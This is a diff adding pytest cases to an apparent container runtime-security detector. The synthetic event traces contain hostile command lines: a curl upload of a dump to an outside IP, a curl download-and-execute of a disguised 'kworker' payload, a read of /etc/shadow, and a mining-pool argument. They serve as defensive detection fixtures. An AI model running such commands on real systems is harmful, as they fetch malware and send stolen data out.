@@ -226,3 +226,60 @@ def test_a_rogue_containers_main_process_is_the_incident_and_its_own_key_command
     assert i.pod == POD and i.key_command is not None
     assert (i.key_command.binary, i.key_command.args) == ("/usr/local/bin/metrics-helper",
                                                           "--pool stratum+tcp://pool.example:4444")
+
+
+def test_the_exfiltration_out_of_the_cluster_is_key_not_the_scan_a_node_dropped(tmp_path):
+    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
+    scan, b = _run(51, _ref(sh), "/tmp/.x/pscan", "10.0.5.5", "2026-03-01T10:00:01Z")
+    curl, c = _run(52, _ref(sh), "/usr/bin/curl", "-X POST --data-binary @dump https://203.0.113.50/up",
+                   "2026-03-01T10:00:05Z")
+    lines = [a, b, c,
+             _connect(scan, _ref(sh), 40001, "10.0.5.5", 22, "2026-03-01T10:00:01.1Z"),
+             _sighting(40001, "10.0.5.5", 22, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0"),
+             _sighting(40001, "10.0.5.5", 22, "DROPPED", "2026-03-01T10:00:01.102Z", node="worker-9", dst_pod="db-0"),
+             _connect(curl, _ref(sh), 40002, "203.0.113.50", 443, "2026-03-01T10:00:05.1Z"),
+             _sighting(40002, "203.0.113.50", 443, "FORWARDED", "2026-03-01T10:00:05.101Z")]
+    f = _findings(tmp_path, lines)
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert (i.pod, i.node) == (POD, NODE)
+    assert i.key_command is not None and i.key_command.exec_id == _id(52)
+    assert "203.0.113.50" in {e.ip for e in i.endpoints}
+
+
+def test_a_payload_a_service_started_is_found_from_its_hooks_alone(tmp_path):
+    server, a = _run(10, {"exec_id": _id(1), "pid": 1}, "/usr/local/bin/python3", "-m jupyter", "2026-03-01T08:00:00Z",
+                     init=True)
+    sh, b = _run(20, _ref(server), "/bin/sh", "-c 'curl -so /tmp/.x/kworker http://198.51.100.23/k; /tmp/.x/kworker'",
+                 "2026-03-01T10:00:00Z", init=True)
+    payload, c = _run(21, _ref(sh), "/tmp/.x/kworker", "", "2026-03-01T10:00:02Z", init=True)
+    pip_sh, d = _run(30, _ref(server), "/bin/sh", "-c 'pip install xgboost'", "2026-03-01T09:00:00Z", init=True)
+    _, e = _run(31, _ref(pip_sh), "/tmp/pip-build-env-1/bin/ninja", "-C build", "2026-03-01T09:00:05Z", init=True)
+    shadow = json.dumps({"process_kprobe": {"process": payload, "parent": _ref(sh), "function_name": "security_file_permission",
+                                            "args": [{"file_arg": {"path": "/etc/shadow"}}, {"int_arg": 4}]},
+                         "node_name": NODE, "time": "2026-03-01T10:00:02.5Z"})
+    lines = [a, b, c, d, e, shadow, _connect(payload, _ref(sh), 42000, "198.51.100.23", 443, "2026-03-01T10:00:03Z")]
+    f = _findings(tmp_path, lines)
+    assert len(f.incidents) == 1
+    i = f.incidents[0]
+    assert i.pod == POD and i.key_command is not None and i.key_command.binary == "/tmp/.x/kworker"
+    assert i.chain == [_id(20), _id(21)]
+
+
+def _put_sightings(sport: int, t: str) -> list[str]:
+    return [_sighting(sport, "10.0.5.5", 80, "FORWARDED", t, dst_pod="db-0", method="PUT"),
+            _sighting(sport, "10.0.5.5", 80, "FORWARDED", t[:-2] + "5Z", node="worker-9", dst_pod="db-0", method="PUT")]
+
+
+def test_a_kill_that_killed_nothing_is_not_key(tmp_path):
+    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
+    curl, b = _run(51, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", "2026-03-01T10:00:01Z")
+    _, c = _run(52, _ref(sh), "/bin/kill", "-9 1", "2026-03-01T10:00:09Z")  # pid 1 of a container ignores it
+    lines = [a, b, c, _connect(curl, _ref(sh), 41001, "10.0.5.5", 80, "2026-03-01T10:00:01.1Z"),
+             *_put_sightings(41001, "2026-03-01T10:00:01.101Z")]
+    f = _findings(tmp_path, lines)
+    assert len(f.incidents) <= 1
+    keys = [(i.key_command.binary, i.key_command.args) for i in f.incidents if i.key_command]
+    leads = [x for lead in f.leads for x in lead.exec_ids]
+    # named: as the incident's key command, or (one kind of act, no detection) as a lead's process
+    assert keys == [("/usr/bin/curl", "-X PUT http://db/x")] or (not keys and _id(51) in leads)
